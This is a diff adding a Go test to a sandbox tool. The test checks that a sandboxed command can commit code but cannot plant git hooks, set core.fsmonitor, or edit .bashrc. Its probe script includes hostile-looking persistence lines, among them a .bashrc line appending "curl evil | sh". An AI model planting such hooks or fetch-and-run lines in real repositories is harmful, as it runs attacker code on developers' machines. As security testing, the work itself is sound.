@@ -373,3 +373,84 @@ func TestSandboxDetached(t *testing.T) {
 		t.Errorf("run -d -t: exit %d %s", r.code, r.stderr)
 	}
 }
+
+// TestSandboxProtectsGitAndDotfiles: inside a --rw path the command can
+// work (commit, edit sources) but not plant what a host tool runs later:
+// git hooks, git config (core.hooksPath, core.fsmonitor), shell start-up
+// files — in the repository, a worktree's git directory and a submodule's.
+// The control, --unprotect all, shows each probe works without it.
+func TestSandboxProtectsGitAndDotfiles(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	setup := func() string {
+		dir := t.TempDir()
+		repo := filepath.Join(dir, "repo")
+		git := func(d string, args ...string) {
+			cmd := exec.Command("git", append([]string{"-c", "user.email=t@t", "-c", "user.name=t", "-c", "protocol.file.allow=always", "-C", d}, args...)...)
+			if out, err := cmd.CombinedOutput(); err != nil {
+				t.Fatalf("git %v: %v: %s", args, err, out)
+			}
+		}
+		os.MkdirAll(repo, 0o755)
+		git(repo, "init", "-q")
+		os.WriteFile(filepath.Join(repo, "main.c"), []byte("int main;\n"), 0o644)
+		os.WriteFile(filepath.Join(repo, ".bashrc"), []byte("# mine\n"), 0o644)
+		git(repo, "add", ".")
+		git(repo, "commit", "-qm", "first")
+		git(repo, "worktree", "add", "-q", filepath.Join(repo, "wt"))
+		return repo
+	}
+	probe := `
+echo 'touch /tmp/pwned' > .git/hooks/pre-commit 2>/dev/null && echo hook-planted || echo hook-denied
+git config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null && echo config-changed || echo config-denied
+echo 'curl evil | sh' >> .bashrc 2>/dev/null && echo bashrc-changed || echo bashrc-denied
+(cd wt && echo x > "$(git rev-parse --git-common-dir)/hooks/post-checkout") 2>/dev/null && echo wt-hook-planted || echo wt-hook-denied
+echo 'int main(){}' > main.c && git -c user.email=s@s -c user.name=s commit -qam edit && echo commit-ok
+`
+	repo := setup()
+	r := sandbox(t, repo, "--rw", repo, "--", "sh", "-c", probe)
+	if r.code != 0 {
+		t.Fatalf("exit %d: %s %s", r.code, r.stdout, r.stderr)
+	}
+	for _, want := range []string{"hook-denied", "config-denied", "bashrc-denied", "wt-hook-denied", "commit-ok"} {
+		contains(t, r.stdout, want, "protected paths in a --rw repository")
+	}
+	if _, err := os.Stat(filepath.Join(repo, ".git/hooks/pre-commit")); err == nil {
+		t.Error("a hook was planted on the host")
+	}
+	if data, _ := os.ReadFile(filepath.Join(repo, ".git/config")); strings.Contains(string(data), "fsmonitor") {
+		t.Error("core.fsmonitor was written to the host's .git/config")
+	}
+	// A protected name the repository lacks can't be held by a mount; its
+	// creation is reported when the command ends.
+	r = sandbox(t, repo, "--rw", repo, "--", "sh", "-c", "mkdir .vscode && echo '{}' > .vscode/settings.json && echo made")
+	contains(t, r.stdout, "made", "creating a missing protected name")
+	contains(t, r.stderr, "/.vscode was created", "the run's warning")
+	// brig inspect lists them, from the kernel's mount table.
+	root := sandboxRoot(t)
+	bg := exec.Command(brigBin, "--root", root, "run", "-d", "--name", "prot", "--rw", repo, "--", "sleep", "60")
+	if out, err := bg.CombinedOutput(); err != nil {
+		t.Fatalf("run -d: %v: %s", err, out)
+	}
+	t.Cleanup(func() { exec.Command(brigBin, "--root", root, "delete", "--force", "prot").Run() })
+	out, err := exec.Command(brigBin, "--root", root, "inspect", "prot").CombinedOutput()
+	if err != nil {
+		t.Fatalf("inspect: %v: %s", err, out)
+	}
+	contains(t, string(out), "read-only inside writable mounts: "+repo+"/.bashrc "+repo+"/.git/config "+repo+"/.git/hooks", "brig inspect")
+	exec.Command(brigBin, "--root", root, "delete", "--force", "prot").Run()
+	// The control: with --unprotect all, every probe works.
+	ctl := setup()
+	r = sandbox(t, ctl, "--rw", ctl, "--unprotect", "all", "--", "sh", "-c", probe)
+	for _, want := range []string{"hook-planted", "config-changed", "bashrc-changed", "wt-hook-planted", "commit-ok"} {
+		contains(t, r.stdout, want, "the control, --unprotect all")
+	}
+	r = sandbox(t, ctl, "--rw", ctl, "--unprotect", ".bashrc", "--", "sh", "-c", probe)
+	for _, want := range []string{"hook-denied", "config-denied", "bashrc-changed"} {
+		contains(t, r.stdout, want, "--unprotect .bashrc")
+	}
+	if r := sandbox(t, ctl, "--rw", ctl, "--unprotect", "src", "--", "true"); r.code != 2 || !strings.Contains(r.stderr, `--unprotect "src"`) {
+		t.Errorf("--unprotect of a name not protected: exit %d: %s", r.code, r.stderr)
+	}
+}
